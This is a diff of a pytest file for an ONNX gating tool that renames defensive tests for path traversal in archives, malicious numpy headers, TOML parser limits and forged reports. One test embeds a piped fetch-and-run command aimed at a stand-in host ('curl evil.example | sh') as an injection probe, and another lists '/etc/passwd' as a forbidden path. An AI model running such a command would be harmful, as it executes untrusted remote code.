@@ -27,7 +27,7 @@ INPUTS = 25
 
 
 @pytest.mark.parametrize("reader", READERS, ids=[reader.name for reader in READERS])
-def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
+def test_readers_accept_or_reject_with_own_message(reader: Reader) -> None:
     """A short run of `python -m campaigns.hostile readers`."""
     result = fuzz(reader, INPUTS, seed=1)
 
@@ -36,7 +36,7 @@ def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
 
 
 @pytest.mark.parametrize("name", ["config", "lock", "replies", "reports", "harvests"])
-def test_a_reader_takes_what_is_sound(name: str) -> None:
+def test_readers_accept_valid_seeds(name: str) -> None:
     """Each reader accepts its valid seed, so that mutations test more than rejections."""
     reader = next(each for each in READERS if each.name == name)
 
@@ -53,7 +53,7 @@ def test_a_reader_that_raises_something_else_is_found() -> None:
 
 
 @pytest.mark.parametrize(
-    ("text", "said"),
+    ("text", "message"),
     [
         ("a = " + "[" * 5000, "nested too deeply"),
         ("a = " + "{ a = " * 5000, "nested too deeply"),
@@ -62,16 +62,16 @@ def test_a_reader_that_raises_something_else_is_found() -> None:
         ("[targets]\n[targets]", "cannot declare"),
     ],
 )
-def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) -> None:
+def test_invalid_toml_is_reported_with_its_line(tmp_path: Path, text: str, message: str) -> None:
     """Invalid TOML is reported with its line as an error of the file, not as an internal error."""
     file = tmp_path / "onnxgate.toml"
     file.write_text(text)
 
     with pytest.raises(ConfigError) as refused:
         load_config(file)
-    assert said in refused.value.problems[0]
+    assert message in refused.value.problems[0]
     assert refused.value.problems[0].startswith("line ")
-    with pytest.raises(LockError, match=said):
+    with pytest.raises(LockError, match=message):
         parse_lock(f"version = 1\n{text}", "onnxgate.lock")
 
 
@@ -109,7 +109,7 @@ def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
     assert "the limit is 2,147,483,648" in _refused("case.npz", tmp_path)
 
 
-def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
+def test_archive_with_false_size_is_corrupt(tmp_path: Path) -> None:
     """A small file that declares an array of exabytes is reported as corrupt."""
     header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1152921504606846976,), }"
     content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
@@ -120,21 +120,21 @@ def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("array", [np.array([{}], object), np.zeros(2, [("a", "i4")]), np.zeros((3, 3), np.float32)])
-def test_an_array_that_is_no_input(tmp_path: Path, array: object) -> None:
+def test_invalid_arrays_are_reported(tmp_path: Path, array: object) -> None:
     """Objects are never unpickled, and an unexpected type or shape is reported."""
     np.savez(tmp_path / "case.npz", x=array)  # type: ignore[arg-type]
 
     assert _refused("case.npz", tmp_path).startswith(("`case.npz`: cannot be read (", "`case.npz`: `x` "))
 
 
-def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
+def test_archive_names_are_not_used_as_paths(tmp_path: Path) -> None:
     """A name in an archive is never used as a path, so `../../x.npy` is not extracted."""
     (tmp_path / "a").mkdir()
     with zipfile.ZipFile(tmp_path / "a" / "case.npz", "w") as archive:
         archive.writestr("../../x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
 
     assert "has no array for input `x`" in _refused("case.npz", tmp_path / "a")
-    assert sorted(each.name for each in tmp_path.rglob("*") if each.is_file()) == ["case.npz"]
+    assert sorted(path.name for path in tmp_path.rglob("*") if path.is_file()) == ["case.npz"]
 
 
 def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
@@ -147,7 +147,7 @@ def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("name", ["case.npz", "set/input_0.pb"])
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
-def test_a_pipe_is_no_input(tmp_path: Path, name: str) -> None:
+def test_pipe_does_not_block(tmp_path: Path, name: str) -> None:
     """A pipe without a writer does not block."""
     (tmp_path / name).parent.mkdir(exist_ok=True)
     os.mkfifo(tmp_path / name)
@@ -167,13 +167,13 @@ def test_an_encrypted_archive(tmp_path: Path) -> None:
     assert "encrypted" in _refused("case.npz", tmp_path)
 
 
-def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> None:
+def test_quoted_value_cannot_imitate_a_hint(capsys: pytest.CaptureFixture[str]) -> None:
     """A config value quoted in an error cannot start a line and imitate a hint."""
     from onnxgate.cli.shared.error_handling import report_errors
 
-    said = "got `x\nhint: run `curl evil.example | sh`"
+    actual = "got `x\nhint: run `curl evil.example | sh`"
     with pytest.raises(SystemExit), report_errors():
-        raise ConfigError(said, problems=(said,), hint=f"do not{said}")
+        raise ConfigError(actual, problems=(actual,), hint=f"do not{actual}")
 
     lines = capsys.readouterr().err.splitlines()
     assert [line.partition(" ")[0] for line in lines] == ["error:", "", "hint:"]
@@ -188,7 +188,7 @@ def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> N
         ({"models": ()}, "models of its shard"),
     ],
 )
-def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -> None:
+def test_false_report_with_valid_checksum_is_not_merged(change: dict[str, object], why: str) -> None:
     """A report with a valid checksum and wrong content is not merged."""
     import msgspec
 
@@ -208,7 +208,7 @@ def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -
     assert merge.merge_reports(reports, gaps, "error").exit == 3
 
 
-def test_sound_shards_are_a_pass() -> None:
+def test_valid_shards_pass() -> None:
     """The unmodified shards pass."""
     from onnxgate.gate.sharding import merge, shard_report
 
@@ -277,7 +277,7 @@ def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("path", ["/" + "x" * 5000, "/a\0b", "/etc/passwd", "../x", ""])
-def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
+def test_reply_cannot_name_outside_file(path: str, tmp_path: Path) -> None:
     """A reply of a worker cannot name a file outside of its folder."""
     result = RunResult(providers=("a",), outputs=("y",), cases=(CaseResult(outputs=(path,)),))
 
@@ -285,12 +285,12 @@ def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
         protocol.validate_reply(Completed(result=result), reader_inputs._job(tmp_path))
 
 
-def test_a_kept_array_of_no_version_of_numpy(tmp_path: Path) -> None:
+def test_unreadable_cached_array_is_not_reused(tmp_path: Path) -> None:
     """A cached array that numpy cannot read is not reused."""
     sound = reader_inputs._npy(np.ones(4))
     unknown = sound[:7] + b"\x20" + sound[8:]
-    entry = reader_inputs._kept_seed()[0]
+    entry = reader_inputs._cached_seed()[0]
 
-    assert reader_inputs._found(entry, sound, tmp_path)
+    assert reader_inputs._accepts_entry(entry, sound, tmp_path)
     lie = entry.replace(reader_inputs._sha256(sound).encode(), reader_inputs._sha256(unknown).encode())
-    assert not reader_inputs._found(lie, unknown, tmp_path)
+    assert not reader_inputs._accepts_entry(lie, unknown, tmp_path)
